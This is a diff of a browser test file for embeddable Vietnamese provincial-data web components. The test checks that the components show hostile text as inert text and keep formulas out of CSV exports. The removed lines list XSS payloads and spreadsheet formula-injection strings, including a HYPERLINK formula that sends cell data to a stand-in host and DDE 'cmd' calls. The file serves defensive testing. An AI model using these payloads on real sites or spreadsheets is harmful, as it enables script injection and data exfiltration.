@@ -7,42 +7,10 @@ import { launchChromium } from '../../tools/browser.mjs';
 import { serve } from '../../tools/serve-folder.mjs';
 import { kept, record } from '../embed/recorder.mjs';
 import { root } from './pack.mjs';
+import { assertNoFormula, assertTextOnly, filled, hostile, payloads, textOf, textsOf } from './payloads.mjs';
 
 const elements = JSON.parse(readFileSync(join(root, 'dist/custom-elements.json'), 'utf8')).modules.flatMap(({ declarations }) => declarations).filter(({ tagName }) => tagName);
 const dataset = JSON.parse(readFileSync(join(root, 'dist/datasets/lam-dong.json'), 'utf8'));
-
-/** What a text could be if somebody wanted to run something: as markup, in an attribute, in a spreadsheet, as a template, as a name of an object. */
-const payloads = [
-  '<img src=x onerror="window.hacked=1">', '"><svg onload=window.hacked=1>', "javascript:window.hacked=1", '</style><script>window.hacked=1</script>', '${window.hacked=1}', '{{constructor.constructor("window.hacked=1")()}}',
-  '=HYPERLINK("https://nguoi-la.example/?"&A1)', '+1+cmd|" /C calc"!A0', '-1+1', '@SUM(1)', "5G,=cmd|'/C calc'!A0", 'x; =1+1', 'x\n\t+1', '",""@SUM(1)', '__proto__', '\u202e\u0000\ufeff<!--',
-];
-
-/** The dataset with what no document of this province has: sections of sources, numbers of documents, partners and parts of tasks. */
-function filled(value) {
-  if (Array.isArray(value)) return value.map(filled);
-  if (!value || typeof value !== 'object') return value;
-  const copy = Object.fromEntries(Object.entries(value).map(([key, each]) => [key, filled(each)]));
-  if (copy.lines) copy.section = 'II.3';
-  if (copy.issuer) copy.number = '12/BC';
-  if (copy.recurrence || copy.printedState || copy.money) Object.assign(copy, { partners: { vi: 'sở', en: 'office' }, subtasks: [{ no: 1, name: { vi: 'việc', en: 'part' }, source: copy.source }] });
-  return copy;
-}
-
-/**
- * The dataset with a payload in every text that a reader sees, and in every name of a person, office or file, each with its place in the file between
- * two marks; what the program tells apart by stays.
- */
-function hostile(value, path = [], count = { n: 0 }) {
-  if (typeof value === 'string') {
-    const key = path.at(-1);
-    const isWords = ['vi', 'en', 'number', 'section', 'file', 'unit'].includes(key) && !(key === 'unit' && path.length < 4);
-    const place = path.filter((step) => !/^(\d+|vi|en)$/.test(step)).join('.');
-    return isWords ? `${payloads[count.n++ % payloads.length]} #${place}# ${value.slice(0, 40)}` : value;
-  }
-  if (Array.isArray(value)) return value.map((each, index) => hostile(each, [...path, index], count));
-  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, hostile(each, [...path, key], count)]));
-  return value;
-}
 
 const settings = {
   'chiso-indicator': { indicator: 'digital-economy-share-grdp' }, 'chiso-projection': { indicator: 'digital-economy-share-grdp' }, 'chiso-scenario': { indicators: 'digital-economy-share-grdp' },
@@ -59,16 +27,23 @@ const deep = {
   'chiso-scorecard': [...evidence, 'indicators.definition', 'concepts.bases.numerator', 'indicators.observations.note', 'indicators.missing.supplier', 'findings.source.section'],
   'chiso-tasks': ['tasks.subtasks.name', 'tasks.partners', 'tasks.note', 'tasks.source.section', 'documents.title', 'documents.issuer'],
 };
+/** Elements that hand out their data as JSON too; that of the scenario holds only what a reader set. */
+const withJson = ['chiso-compare', 'chiso-projection', 'chiso-scorecard'];
+/** The files for pages and the elements that each brings. */
+const builds = [
+  { file: 'chiso', own: elements },
+  { file: 'chiso-lite', own: elements.filter(({ tagName }) => ['chiso-scorecard', 'chiso-indicator', 'chiso-brief'].includes(tagName)) },
+];
 /** As strict as a portal can be: what would run or load from a text is refused and reported, and a report fails the test. */
-const html = `<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Cổng</title><script src="/dist/embed/chiso.js"></script></head><body><main></main></body></html>`;
+const html = (file) => `<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Cổng</title><script src="/dist/embed/${file}.js"></script></head><body><main></main></body></html>`;
 
-describe('on a page with every element', () => {
+for (const { file, own } of builds) describe(`on a page with ${file}.js and every element that it brings`, () => {
   let browser;
   let site;
   before(async () => {
     browser = await launchChromium();
     site = await serve(root, {
-      '/trang/': { body: html, headers: { 'content-security-policy': policy } },
+      '/trang/': { body: html(file), headers: { 'content-security-policy': policy } },
       '/favicon.ico': { body: '', headers: { 'content-type': 'image/x-icon' } },
     });
   });
@@ -91,12 +66,6 @@ describe('on a page with every element', () => {
     return { context, page, watched };
   }
 
-  const textOf = (page) => page.evaluate(() => {
-    const trees = [document];
-    for (const tree of trees) for (const each of tree.querySelectorAll('*')) if (each.shadowRoot) trees.push(each.shadowRoot);
-    return trees.map((tree) => tree.textContent).join('\n');
-  });
-
   /** Presses every button of the element that does not print, once, and types into every field; gives the places in the file of all texts that were to be seen. */
   async function useAll(page, tag) {
     const places = new Set();
@@ -116,10 +85,11 @@ describe('on a page with every element', () => {
     return places;
   }
 
-  for (const { tagName, attributes } of elements) {
+  for (const { tagName, attributes } of own) {
     describe(tagName, () => {
       it('shows texts of data as text, whatever they hold, and hands none of them to a spreadsheet as a formula', async () => {
         const data = hostile(filled(dataset));
+        const given = textsOf(data).filter((each) => each.includes('#'));
         const { context, page, watched } = await open(tagName, { data, datasets: [data], provinces: 'lam-dong', province: 'lam-dong', asOf: '2026-06-30', ...settings[tagName] });
         const downloads = [];
         page.on('download', (download) => downloads.push(download));
@@ -128,29 +98,23 @@ describe('on a page with every element', () => {
           await page.locator(`${tagName} button`, { hasText: 'CSV' }).first().click();
           assert.match((await download).suggestedFilename(), /\.csv$/);
         }
+        if (withJson.includes(tagName)) {
+          const download = page.waitForEvent('download');
+          await page.locator(`${tagName} button`, { hasText: 'JSON' }).first().click();
+          assert.match((await download).suggestedFilename(), /\.json$/);
+        }
         const places = await useAll(page, tagName);
         assert.deepEqual(deep[tagName].filter((place) => !places.has(place)), []);
-        const found = await page.evaluate(() => {
-          const trees = [document];
-          for (const tree of trees) for (const each of tree.querySelectorAll('*')) if (each.shadowRoot) trees.push(each.shadowRoot);
-          const all = trees.flatMap((tree) => [...tree.querySelectorAll('*')]);
-          return {
-            hacked: 'hacked' in window, shown: trees.some((tree) => /<img src=x|=HYPERLINK|<svg onload/.test(tree.textContent)),
-            made: all.filter(({ localName }) => ['img', 'iframe', 'object', 'embed', 'base', 'meta'].includes(localName) && !document.head.contains(document.querySelector(localName))).map(({ localName }) => localName),
-            handlers: all.flatMap((each) => each.getAttributeNames()).filter((name) => /^on/i.test(name)),
-            links: all.filter(({ localName }) => localName === 'a').map((each) => each.getAttribute('href')).filter((href) => href && !/^(https?:|#|blob:|\/)/.test(href)),
-          };
-        });
-        assert.deepEqual(found, { hacked: false, shown: true, made: [], handlers: [], links: [] });
+        await assertTextOnly(page);
         assert.deepEqual(watched.reports(), []);
         for (const download of downloads) {
           const text = readFileSync(await download.path(), 'utf8');
-          if (!download.suggestedFilename().endsWith('.csv')) continue;
-          const cells = text.replace(/^\ufeff/, '').split(/\r\n|[;,](?=(?:[^"]*"[^"]*")*[^"]*$)/).map((cell) => cell.replace(/^"|"$/g, ''));
-          assert.deepEqual(cells.filter((cell) => /^\s*[=+@\t]/.test(cell) || /^\s*-(?![\d.,]+$)/.test(cell)), []);
-          // Nor for a spreadsheet that reads with another separator, or that ends a cell where the line ends.
-          const pieces = text.split(/[;,\t\r\n]/);
-          assert.deepEqual(pieces.filter((piece) => /^["\s]*[=+@]/.test(piece) || /^["\s]*-(?![\d.]+$)/.test(piece)), []);
+          if (download.suggestedFilename().endsWith('.csv')) assertNoFormula(text);
+          if (!download.suggestedFilename().endsWith('.json')) continue;
+          // JSON is for programs: the texts are in it as the data has them, some of them in sentences.
+          const marked = textsOf(JSON.parse(text)).filter((each) => each.includes('#'));
+          assert.ok(marked.length > 0 || !withJson.includes(tagName));
+          assert.deepEqual(marked.filter((each) => !given.some((one) => each.includes(one))), []);
         }
         await context.close();
       });
@@ -174,7 +138,7 @@ describe('on a page with every element', () => {
       it('asks only for its own files and data, keeps nothing, and leaves the page\'s address and history alone', async () => {
         const { context, page, watched } = await open(tagName, { province: 'lam-dong', provinces: 'lam-dong dak-lak', asOf: '2026-06-30', ...settings[tagName] });
         await useAll(page, tagName);
-        assert.deepEqual(watched.unexpected(null).filter((url) => !new RegExp(`^${site.url}(trang/|favicon\\.ico|dist/embed/(chiso(-more)?\\.js|data/(lam-dong|dak-lak)(\\.summary)?\\.json))$`).test(url)), []);
+        assert.deepEqual(watched.unexpected(null).filter((url) => !new RegExp(`^${site.url}(trang/|favicon\\.ico|dist/embed/(${file}(-more)?\\.js|data/(lam-dong|dak-lak)(\\.summary)?\\.json))$`).test(url)), []);
         assert.deepEqual(await kept(context, page), []);
         assert.deepEqual(await page.evaluate(() => [location.pathname + location.search + location.hash, history.length - window.lengths, document.title]), ['/trang/', 0, 'Cổng']);
         assert.deepEqual(watched.words(), []);
